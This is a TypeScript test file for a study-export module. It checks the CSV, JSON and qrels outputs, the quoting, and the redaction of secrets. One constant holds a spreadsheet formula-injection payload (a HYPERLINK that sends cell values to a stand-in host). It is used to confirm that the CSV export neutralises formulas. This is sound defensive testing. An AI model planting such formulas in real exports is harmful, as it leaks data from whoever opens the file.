import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { annotateOne, listAnnotations, listStudyQueries, upsertStudyQueries } from "@/db/queries/study";
import { csvText } from "../csv";
import { markSecretEnv } from "../env/secrets";
import { settingsFor, tempDb } from "../testing/fixtures";
import { type ScriptedServer, startScriptedServer } from "../testing/scripted-server";
import { runExperiment } from "./experiment";
import { importStudyFolder } from "./import";
import { exportStudy, LABEL_COLUMNS, METRIC_COLUMNS } from "./study-export";
import { describePathMix } from "./study-metrics";
import { studyReport } from "./study-report";
import { parseQrels } from "./trec";

/** RFC 4180 parsing: quoted fields may hold commas, doubled quotes and line breaks; CRLF ends a record. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i++;
      } else {
        field += ch;
        i++;
      }
    } else if (ch === '"') {
      quoted = true;
      i++;
    } else if (ch === ",") {
      row.push(field);
      field = "";
      i++;
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i += 2;
    } else {
      field += ch;
      i++;
    }
  }
  expect(field, "the file ends with CRLF").toBe("");
  return rows;
}

const records = (text: string) => {
  const [header, ...rows] = parseCsv(text);
  return { header, rows: rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]]))) };
};

const { db } = tempDb();
let server: ScriptedServer;
let judgeId = "";
const settings = () => settingsFor(server.baseURL);
const TRICKY = 'How do I "quote", with commas,\nand a line break?';
/** A query text and a configuration label that a spreadsheet would run as a formula, sending cells away. */
const HOSTILE = '=HYPERLINK("http://x/?leak="&B3&C3,"Click")';

beforeAll(async () => {
  server = await startScriptedServer(() => ({ json: { keep: [0] } }));
  await importStudyFolder(db, path.resolve(__dirname, "../../examples/memory-study"), "s");
  const [q, q2] = listStudyQueries(db, "s");
  upsertStudyQueries(db, "s", [
    { queryId: q.queryId, text: TRICKY },
    { queryId: q2.queryId, text: HOSTILE },
  ]);
  const other = listAnnotations(db, "s").find((a) => a.queryId === q.queryId)!;
  annotateOne(db, "s", { queryId: q.queryId, memoryId: other.memoryId, relevance: 0 }, "ana");
  const base = { mode: "auto" as const, topK: 3, poolSize: 15, shuffle: false };
  await runExperiment(db, {
    collection: "s",
    config: { ...base, kind: "bm25" },
    settings: settings(),
    label: `-${HOSTILE}`,
  });
  judgeId = await runExperiment(db, {
    collection: "s",
    config: { ...base, kind: "single", model: "local:judge" },
    settings: settings(),
  });
}, 60_000);
afterAll(() => server.close());

describe("a study's export", () => {
  it("labels CSV parses back to the stored labels, one row per label, with the query text, source and time", async () => {
    const out = await exportStudy(db, "s", { what: "labels", format: "csv" }, {});
    expect(out.contentType).toBe("text/csv; charset=utf-8");
    expect(out.filename).toBe("s-labels.csv");
    const { header, rows } = records(out.body);
    expect(header).toEqual([...LABEL_COLUMNS]);
    const stored = listAnnotations(db, "s");
    expect(rows).toHaveLength(stored.length);
    const text = new Map(listStudyQueries(db, "s").map((q) => [q.queryId, q.text]));
    const back = rows.map((r) => ({
      queryId: r.query_id,
      memoryId: r.memory_id,
      relevance: Number(r.relevance),
      source: r.source,
      author: r.author === "" ? null : r.author,
      updatedAt: new Date(r.updated_at),
    }));
    const key = (a: { queryId: string; memoryId: string }) => `${a.queryId}\u0000${a.memoryId}`;
    const sort = <T extends { queryId: string; memoryId: string }>(xs: T[]) =>
      [...xs].sort((a, b) => (key(a) < key(b) ? -1 : 1));
    expect(sort(back)).toEqual(sort(stored));
    for (const r of rows) {
      expect(r.collection).toBe("s");
      expect(csvText(r.query_text)).toBe(text.get(r.query_id));
      expect(r.relevant).toBe(Number(r.relevance) > 0 ? "yes" : "no");
    }
    // the person's "not relevant" click is a row with its source; the quoted, multi-line query text survives
    const human = rows.find((r) => r.source === "human")!;
    expect([human.relevant, human.query_text, human.author]).toEqual(["no", TRICKY, "ana"]);
    // an imported label names nobody
    expect(rows.filter((r) => r.source !== "human").every((r) => r.author === "")).toBe(true);
  });

  it("no text cell starts a formula (OWASP's CSV-injection guard) in the labels and metrics CSV", async () => {
    const formula = /^[=+\-@\t\r]/;
    const labels = (await exportStudy(db, "s", { what: "labels", format: "csv" }, {})).body;
    const metrics = (await exportStudy(db, "s", { what: "metrics", format: "csv" }, settings().prices)).body;
    for (const body of [labels, metrics])
      for (const r of records(body).rows)
        for (const [k, v] of Object.entries(r)) expect(v, `${k}: ${v}`).not.toMatch(formula);
    const quoted = (t: string) => `"'${t.replaceAll('"', '""')}"`;
    expect(labels).toContain(quoted(HOSTILE));
    expect(records(labels).rows.some((r) => r.query_text === `'${HOSTILE}`)).toBe(true);
    expect(metrics).toContain(quoted(`-${HOSTILE}`));
    expect(records(metrics).rows.some((r) => r.configuration === `'-${HOSTILE}`)).toBe(true);
    // the JSON export is exact text: the guard belongs to CSV only
    const json = (await exportStudy(db, "s", { what: "metrics", format: "json" }, settings().prices)).body;
    expect(
      JSON.parse(json).configurations.some(
        (c: { configuration: string }) => c.configuration === `-${HOSTILE}`,
      ),
    ).toBe(true);
  });

  it("labels as qrels are the labelled queries' judgments, as export-qrels writes them", async () => {
    const out = await exportStudy(db, "s", { what: "labels", format: "qrels" }, {});
    expect(out.contentType).toBe("text/plain; charset=utf-8");
    const qrels = parseQrels(out.body);
    const n = [...qrels.values()].reduce((a, m) => a + m.size, 0);
    expect(n).toBe(listAnnotations(db, "s").length);
    expect(n).toBeGreaterThan(0);
  });

  it("metrics CSV and JSON carry studyReport's figures, one row per configuration", async () => {
    const report = await studyReport(db, "s", settings().prices);
    const csv = await exportStudy(db, "s", { what: "metrics", format: "csv" }, settings().prices);
    const { header, rows } = records(csv.body);
    expect(header).toEqual([...METRIC_COLUMNS]);
    expect(rows).toHaveLength(report.experiments.length);
    const json = JSON.parse(
      (await exportStudy(db, "s", { what: "metrics", format: "json" }, settings().prices)).body,
    );
    expect(json.configurations).toHaveLength(2);
    const cell = (x: number) => (Number.isFinite(x) ? String(x) : "");
    for (const r of report.experiments) {
      const m = r.metrics;
      const row = rows.find((x) => x.experiment_id === r.experiment.id)!;
      expect(csvText(row.configuration)).toBe(r.experiment.label);
      expect(row.precision).toBe(cell(m.precision.mean));
      expect(row.precision_low).toBe(cell(m.precision.low));
      expect(row.precision_n).toBe(String(m.precision.n));
      expect(row.recall).toBe(cell(m.recall.mean));
      expect(row.f1).toBe(cell(m.f1.mean));
      expect(row.p_at_k).toBe(cell(m.precisionAtK.mean));
      expect(row.precision_judge_answered).toBe(m.judgeAnswered ? cell(m.judgeAnswered.precision.mean) : "");
      expect(row.latency_p50_ms).toBe(cell(m.latencyP50));
      expect(row.latency_p95_ms).toBe(cell(m.latencyP95));
      expect(row.cost_state).toBe(m.cost.state);
      expect(row.path_mix).toBe(describePathMix(m.pathMix));
      expect(row.queries_annotated).toBe(String(m.annotatedQueries));
      expect(row.queries_finished).toBe(String(r.finished));
      const j = json.configurations.find(
        (x: { experiment_id: string }) => x.experiment_id === r.experiment.id,
      );
      expect(j.precision).toBe(m.precision.n > 0 ? m.precision.mean : null);
      expect(j.recall_n).toBe(m.recall.n);
    }
    const judge = rows.find((x) => x.experiment_id === judgeId)!;
    expect([judge.kind, judge.model, judge.judge_answered]).toEqual([
      "single",
      "local:judge",
      expect.any(String),
    ]);
    expect(Number(judge.precision)).toBeGreaterThan(0);
    expect(rows.find((x) => x.kind === "bm25")?.precision_judge_answered).toBe("");
  });

  it("a secret in a query's text is redacted in the labels CSV, as in every export", async () => {
    const KEY = "sk-study-export-canary-0a1b2c3d4e";
    process.env.JURY_STUDYEXPORT_API_KEY = KEY;
    markSecretEnv("JURY_STUDYEXPORT_API_KEY"); // seen at once (process.env is rescanned once a second)
    try {
      const [q] = listStudyQueries(db, "s");
      const before = listStudyQueries(db, "s").find((x) => x.queryId === q.queryId)?.text ?? "";
      upsertStudyQueries(db, "s", [{ queryId: q.queryId, text: `my key is ${KEY}` }]);
      const csv = (await exportStudy(db, "s", { what: "labels", format: "csv" }, {})).body;
      expect(csv).not.toContain(KEY);
      expect(csv).toContain("my key is [redacted]");
      upsertStudyQueries(db, "s", [{ queryId: q.queryId, text: before }]);
    } finally {
      delete process.env.JURY_STUDYEXPORT_API_KEY;
    }
  });

  it("an unknown collection is not_found, naming the ones there are", async () => {
    await expect(exportStudy(db, "nope", { what: "labels", format: "csv" }, {})).rejects.toThrow(
      /No collection "nope" \(there are: s\)/,
    );
    await expect(exportStudy(db, "nope", { what: "metrics", format: "csv" }, {})).rejects.toThrow(
      /No collection/,
    );
  });
});
